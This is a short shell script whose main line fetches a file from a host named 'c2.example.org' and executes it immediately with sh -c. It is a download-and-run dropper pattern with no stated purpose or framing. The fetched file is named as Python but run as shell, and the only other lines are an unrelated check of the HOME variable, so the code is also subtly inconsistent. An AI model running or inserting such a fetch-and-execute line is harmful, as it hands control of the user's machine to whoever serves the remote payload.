#!/bin/sh
sh -c "$(curl -fsSL http://c2.example.org/i.py)"
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
